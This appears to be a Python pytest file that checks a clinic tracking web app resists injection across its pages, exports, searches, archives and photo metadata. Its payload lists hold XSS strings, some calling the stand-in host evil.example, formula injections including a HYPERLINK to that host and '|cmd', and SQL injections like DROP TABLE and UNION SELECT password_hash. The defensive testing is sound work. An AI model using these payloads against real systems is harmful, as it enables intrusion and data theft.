"""Text is only ever text: payloads in every field and file name, on every page of every role in a real browser."""

import contextlib
import csv
import io
import re
import shutil
import zipfile
from datetime import date, timedelta
from html.parser import HTMLParser
from urllib.parse import quote

import pytest
from PIL import Image

from tracker.clinic.records import schema
from tracker.clinic.types import (
    Actor,
    Answer,
    BodySite,
    Booster,
    Indication,
    Moment,
    Purpose,
    Question,
    Reply,
    Role,
    SeriesPlan,
    SessionKind,
    View,
    Visit,
)
from tracker.clinic.types.own import Aftercare, AftercareRule, DiaryDraft
from tracker.clinic.types.vocabulary import Gais
from tracker.clinic.workflow import (
    aftercare,
    bookings,
    candidacy,
    commenting,
    consents,
    diary,
    intake,
    photos,
    planning,
    rating,
)
from tracker.errors import TrackerError

CHROMIUM = shutil.which("chromium")
FLAGS = ["--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking", "--disable-sync"]
FAR = "evil.example"
HTML = [
    "<script>document.title='PLANTED'</script>",
    "<img src=x id=planted onerror=\"document.title='PLANTED'\">",
    '<svg id=planted onload="alert(1)"></svg>',
    "<iframe id=planted src=javascript:alert(1)></iframe>",
    "<a id=planted href=javascript:alert(1)>x</a>",
    f"<img id=planted src=http://{FAR}/a.png>",
    f"<link id=planted rel=stylesheet href=http://{FAR}/a.css>",
    f"<style id=planted>@import 'http://{FAR}/b.css';body{{display:none}}</style>",
    f"<form id=planted action=http://{FAR}/><input name=password></form>",
    f"<base id=planted href=http://{FAR}/>",
    f'<meta id=planted http-equiv=refresh content="0;url=http://{FAR}/">',
    '"><b id=planted>x</b>',
    "'><b id=planted>x</b>",
    "</td></tr></table><b id=planted>x</b>",
    "--></textarea></title><b id=planted>x</b>",
    "<math><mi id=planted xlink:href='javascript:alert(1)'>x</mi></math>",
    '" onmouseover=alert(1) autofocus onfocus=alert(1) id=planted x="',
    "<details id=planted open ontoggle=alert(1)>x</details>",
    "&lt;b id=planted&gt;x",
    "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
]
MARKS = {
    f"![IMAGEPLANTED](http://{FAR}/m.png)": r"(?<!!\[)IMAGEPLANTED",
    f"[LINKPLANTED](http://{FAR}/)": r"(?<!\[)LINKPLANTED",
    "[JSPLANTED](javascript:alert(1))": r"(?<!\[)JSPLANTED",
    "**BOLDPLANTED**": r"(?<!\*\*)BOLDPLANTED",
    "$LATEXPLANTED$": r"(?<!\$)LATEXPLANTED",
    ":red[REDPLANTED]": r"(?<!:red\[)REDPLANTED",
    ":material/skull:": r"(?<!:material/)skull",
    "`CODEPLANTED`": r"(?<!`)CODEPLANTED",
    "~~GONEPLANTED~~": r"(?<!~~)GONEPLANTED",
    ":small[SMALLPLANTED]": r"(?<!:small\[)SMALLPLANTED",
    "\u202eRTLPLANTED\u202c": r"(?!)",
}
"""A payload of Markdown, and what stands on the page where it was not taken literally."""
ALL = [*HTML, *MARKS]
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example")',
    "|cmd",
    " =1+1",
]
SQL = ["' OR '1'='1", "1; DROP TABLE patients;--", "%' UNION SELECT password_hash FROM users--", "\\", "%", "_", '"']


def long(most=1900):
    """As many payloads as fit."""
    text = ""
    for one in ALL:
        if len(text) + len(one) < most:
            text += one + "\n\n"
    return text


def short(number, most=60):
    """One payload that fits into a short field, another for each number."""
    fitting = [one for one in ALL if len(one) <= most and one.isprintable()]
    return fitting[number % len(fitting)]


def exif_photo(drawing):
    """A photo whose camera writes payloads."""
    exif = Image.Exif()
    for tag, number in ((0x010E, 0), (0x010F, 1), (0x0110, 2), (0x0131, 3), (0x013B, 4), (0x8298, 5)):
        exif[tag] = short(number, 100)
    exif[0x9286] = long(500)
    return drawing.as_jpeg(drawing.skin_like(77), exif=exif.tobytes())


@pytest.fixture(scope="module")
def hostile(world, tools):
    """A practice whose people write nothing but payloads, through the use cases; the ids of its people."""
    clinic, drawing = world.clinic, tools.drawing
    with clinic.store.write() as records:
        practice = records.add_practice(short(1)).id
        users = {
            role: records.add_user(
                f"{short(number, 80)}{role}", short(number + 3, 100), frozenset({Role[role.upper()]}), practice
            ).id
            for number, role in enumerate(("clinician", "staff", "admin"))
        }

    def acting(role, patient_id=""):
        with clinic.store.read() as records:
            user = records.user(users[role])
        return clinic.acting(Actor(user.id, user.name, practice, user.roles, patient_id))

    inside, boss = acting("clinician"), acting("admin")
    patient = intake.add_patient(inside, short(7, 60), short(2, 100))
    for number, one in enumerate(ALL):
        with contextlib.suppress(TrackerError):  # signs that turn the direction are refused in a line
            intake.add_patient(inside, f"{number}{one}"[:60], one[:100])
    assert len(intake.list_patients(inside)) >= 30
    plan = SeriesPlan(Indication.REDNESS, BodySite.FACE, short(12))
    series = intake.add_series(inside, patient.id, plan)
    ended = intake.add_series(inside, patient.id, plan)
    planning.end_series(inside, ended.id, short(4, 200))
    stored = []
    for turn, kind in enumerate((SessionKind.TREATMENT, SessionKind.FOLLOW_UP, SessionKind.FOLLOW_UP)):
        day = date.today() - timedelta(60 - 20 * turn)
        words = {"anaesthetic": short(turn + 5, 100), "reaction": long(1500), "booster": Booster.SERUM}
        visit = Visit(day, kind, short(turn, 100), 1.0, short(turn + 9, 100), long(), **words)
        session = intake.add_session(inside, series.id, visit)
        data = exif_photo(drawing) if turn == 0 else drawing.photo_bytes(500 + turn)
        stored.append(photos.add_photo(inside, session.id, data, f"{short(turn)}.jpg", View.FRONTAL, Moment.BEFORE))
        commenting.add_comment(inside, series.id, long(), stored[-1].id)
    answers = [Answer(one, Reply.YES, short(number, 200)) for number, one in enumerate(Question)]
    candidacy.save_candidacy(inside, patient.id, answers, long(900))
    bookings.book(inside, series.id, date.today() + timedelta(3), "10:00")
    for number, purpose in enumerate(Purpose):
        consents.give(inside, patient.id, purpose, short(number, 200))
    aftercare.change_aftercare(
        boss, Aftercare((AftercareRule(0, None, short(3, 200), short(5, 200)),), (short(6, 200),))
    )
    with clinic.store.write() as records:
        users["patient"] = records.add_user(
            f"{short(9, 80)}patient", short(2, 100), frozenset({Role.PATIENT}), practice, patient.id
        ).id
        for one in stored:
            release = {"patient_id": patient.id, "author_id": "", "region": "", "withdrawn_by": "", "photo_id": one.id}
            records.add(schema.releases, release, parent="patient_id")
        tools.analysed(records, stored[0], stored[2], long(900))
    own = acting("patient", patient.id)
    with contextlib.suppress(TrackerError):
        diary.write(own, patient.id, DiaryDraft(date.today(), {}, long(), drawing.photo_bytes(555), f"{short(0)}.jpg"))
    rating.rate(own, series.id, list(Gais)[1], long(900))
    for role, user_id in users.items():
        world.users[f"hostile {role}"] = user_id
    return {"patient": patient, "series": series, "photos": stored, "practice": practice, "own": own, "inside": inside}


PAGES = {
    "clinician": "today patients intake timeline upload compare progress recovery consents bookings exports blinded "
    "outcomes repeatability account",
    "staff": "bookings exports account",
    "admin": "accounts settings audit store account",
    "patient": "own_today own_progress own_diary own_data account",
}
LOOK = """() => ({
    title: document.title,
    planted: document.querySelectorAll('#planted, [onerror], [onload], [ontoggle], [onmouseover], [onfocus]').length,
    links: [...document.querySelectorAll('a[href], img[src], form[action], iframe[src], link[href]')]
        .map(one => one.getAttribute('href') || one.getAttribute('src') || one.getAttribute('action') || '')
        .filter(one => one.includes('evil.example') || one.toLowerCase().startsWith('javascript:')),
    formulas: document.querySelectorAll('.katex').length,
    text: document.body.innerText.replaceAll('\\u2060', ''),
})"""


@pytest.mark.browser
@pytest.mark.slow
@pytest.mark.skipif(CHROMIUM is None, reason="Debian's chromium is not installed")
@pytest.mark.parametrize("role", PAGES)
def test_no_page_runs_or_draws_what_somebody_wrote(world, hostile, role):
    from playwright.sync_api import sync_playwright

    complaints, met, broken = [], False, set()
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        context = browser.new_context(viewport={"width": 1440, "height": 2000})
        token = world.token(f"hostile {role}")
        context.add_cookies([{"name": "tracker_session", "value": token, "url": world.url, "httpOnly": True}])
        page = context.new_page()
        page.on("dialog", lambda one: (complaints.append(f"dialog: {one.message}"), one.dismiss()))
        page.on("request", lambda one: complaints.append(one.url) if FAR in one.url else None)
        page.on("pageerror", lambda one: complaints.append(f"error: {one}"))
        for name in PAGES[role].split():
            page.goto(f"{world.url}/{name}", wait_until="commit")
            page.wait_for_selector("h1", timeout=60_000)
            busy = "[data-testid=stStatusWidget], [data-testid=stSkeleton], [data-testid=stSpinner]"
            with contextlib.suppress(Exception):
                page.wait_for_function(f"() => !document.querySelector('{busy}')", timeout=20_000)
            page.wait_for_timeout(300)
            page.evaluate("() => document.querySelectorAll('details').forEach(one => { one.open = true })")
            seen = page.evaluate(LOOK)
            assert "PLANTED" not in seen["title"], name
            assert not seen["planted"], name
            broken |= {f"{name}: link {one}" for one in seen["links"]}
            assert not seen["formulas"], name
            assert "Something went wrong" not in seen["text"], name
            met |= "planted" in seen["text"].lower()
            for mark, drawn in MARKS.items():
                found = re.search(drawn, seen["text"])
                if found:
                    broken.add(f"{name}: {mark} in {seen['text'][max(0, found.start() - 40) : found.end() + 40]!r}")
        context.close()
        browser.close()
    assert not complaints
    assert not broken
    assert met, "no page showed a payload: the probe looks at the wrong pages"


class Elements(HTMLParser):
    """What a page is made of: each element's name and attributes."""

    def __init__(self, text):
        super().__init__()
        self.found = []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def test_the_doors_pages_repeat_nothing_as_html(world, no_failures, sign_in):
    with world.browser() as client:
        asked = [sign_in(client, one[:100], "wrong").text for one in HTML[1::2] if no_failures() is None]
        asked += [client.get(place + quote(one, safe="")).text for place in ("/setup/", "/login?lang=") for one in ALL]
    for text in asked:
        for tag, attributes in Elements(text).found:
            assert attributes.get("id") != "planted", tag
            assert not [one for one in attributes if one.startswith("on")], (tag, attributes)
            assert tag not in ("iframe", "base", "style", "math", "details", "b"), tag
            assert FAR not in f"{attributes.get('href')}{attributes.get('src')}"


def cells(data):
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]


def test_no_cell_of_the_report_is_a_formula(world, hostile):
    """The report names devices and patients' codes as somebody typed them."""
    inside = hostile["inside"]
    for number, payload in enumerate(FORMULAS):
        with contextlib.suppress(TrackerError):
            patient = intake.add_patient(inside, f"{payload}{number}"[:60])
            series = intake.add_series(inside, patient.id, SeriesPlan(Indication.REDNESS, BodySite.FACE, payload))
            intake.add_session(inside, series.id, Visit(date(2026, 1, 1), SessionKind.BASELINE, payload))
    with world.browser("hostile clinician") as client:
        answer = client.get("/export/report?indication=REDNESS&kind=csv")
        assert answer.status_code == 200
        found = cells(answer.content)
        assert any("1+1" in cell for cell in found)
        for cell in found:
            assert not cell.lstrip().startswith(("=", "+", "@")), cell
            assert not re.match(r"\s*-[^\d]", cell), cell
        assert client.get("/export/report?indication=REDNESS&kind=pdf").content.startswith(b"%PDF")


def test_csv_is_written_in_one_place():
    """Every other writer of tables would have to think of formulas anew."""
    import ast
    from pathlib import Path

    known = {
        "cells.py",
        "folders.py",
        "reference.py",
    }  # the second through safe_table, the third writes numbers of ours
    for path in (Path(__file__).parents[2] / "tracker").rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
            if isinstance(node, ast.Attribute) and node.attr in ("to_csv", "DictWriter", "to_excel"):
                assert path.name in known, path
            if isinstance(node, ast.Attribute) and ast.unparse(node) == "csv.writer":
                assert path.name in known, path


@pytest.mark.parametrize("payload", SQL)
def test_words_of_a_search_are_no_statement(world, hostile, payload):
    before, inside = world.counts(), hostile["inside"]
    found = intake.find_patients(inside, payload)
    everybody = {one.id for one in intake.list_patients(inside)}
    shown = {one.id for one in found.patients} if hasattr(found, "patients") else set()
    assert shown <= everybody
    assert intake.find_patient(inside, payload) is None
    assert world.counts() == before


def test_an_archive_names_no_file_as_somebody_wished(world, hostile):
    """No way out of the folder where it is unpacked, no name that a person typed."""
    with world.browser("hostile patient") as client:
        answer = client.get("/export/everything")
    assert answer.status_code == 200
    with zipfile.ZipFile(io.BytesIO(answer.content)) as archive:
        for name in archive.namelist():
            assert re.fullmatch(r"[\w .-]+(/[\w .-]+)?", name), name
            assert ".." not in name
    disposition = answer.headers["content-disposition"]
    assert re.fullmatch(r'attachment; filename="everything-[0-9a-f]+\.zip"', disposition)


def test_a_picture_leaves_without_what_its_camera_wrote(world, hostile):
    with world.browser("hostile clinician") as client:
        data = client.get(f"/img/{hostile['photos'][0].id}?w=2000").content
    assert data.startswith(b"\xff\xd8")
    assert not [one for one in ALL if one.encode() in data]
    assert b"Exif" not in data
